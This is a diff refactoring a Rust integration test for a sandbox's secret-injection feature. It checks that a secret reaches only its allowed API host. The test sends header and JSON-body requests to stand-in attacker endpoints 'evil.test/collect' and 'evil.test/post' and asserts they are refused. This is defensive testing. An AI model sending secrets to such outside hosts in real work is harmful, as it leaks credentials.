@@ -386,6 +386,21 @@ for url in sys.argv[2:]:
 print(json.dumps(out))
 "#;
 
+/// Runs [`FETCH`] in sandbox `sec` (`mode`: the key in a header or a JSON body): the
+/// (status, body) of each URL, and the exec's answer.
+async fn fetch(
+    c: &microsandbox_client::AgentClient,
+    mode: &str,
+    urls: &[&str],
+) -> (Vec<(u16, String)>, microsandbox_client::Output) {
+    let mut args = vec!["-c", FETCH, mode];
+    args.extend_from_slice(urls);
+    let out = c.exec("sec", cmd("python3", &args)).await.unwrap();
+    let results = serde_json::from_str(out.stdout_str().trim())
+        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
+    (results, out)
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
     use microsandbox_agent::network::secrets::SandboxCa;
@@ -412,25 +427,16 @@ async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
     }))
     .unwrap();
     c.create(req).await.unwrap();
-    let out = c
-        .exec(
-            "sec",
-            cmd(
-                "python3",
-                &[
-                    "-c",
-                    FETCH,
-                    "header",
-                    "https://api.secret.test/v1/things",
-                    "https://evil.test/collect",
-                    "http://api.secret.test/plain",
-                ],
-            ),
-        )
-        .await
-        .unwrap();
-    let results: Vec<(u16, String)> = serde_json::from_str(out.stdout_str().trim())
-        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
+    let (results, out) = fetch(
+        &c,
+        "header",
+        &[
+            "https://api.secret.test/v1/things",
+            "https://evil.test/collect",
+            "http://api.secret.test/plain",
+        ],
+    )
+    .await;
     // The exec's own answer names what it was refused.
     let refused: Vec<(&str, &str)> = out
         .secret_violations
@@ -461,24 +467,12 @@ async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
     assert!(evil.lock().unwrap().is_empty());
     assert!(api_plain.lock().unwrap().is_empty());
     // The same in a request body (JSON post): the value for the allowed API, a 403 elsewhere.
-    let out = c
-        .exec(
-            "sec",
-            cmd(
-                "python3",
-                &[
-                    "-c",
-                    FETCH,
-                    "body",
-                    "https://api.secret.test/v1/post",
-                    "https://evil.test/post",
-                ],
-            ),
-        )
-        .await
-        .unwrap();
-    let results: Vec<(u16, String)> = serde_json::from_str(out.stdout_str().trim())
-        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
+    let (results, out) = fetch(
+        &c,
+        "body",
+        &["https://api.secret.test/v1/post", "https://evil.test/post"],
+    )
+    .await;
     assert_eq!(results[0], (200, "ok".to_string()), "{results:?}");
     assert_eq!(results[1].0, 403, "{results:?}");
     let api_seen = api.lock().unwrap().clone();
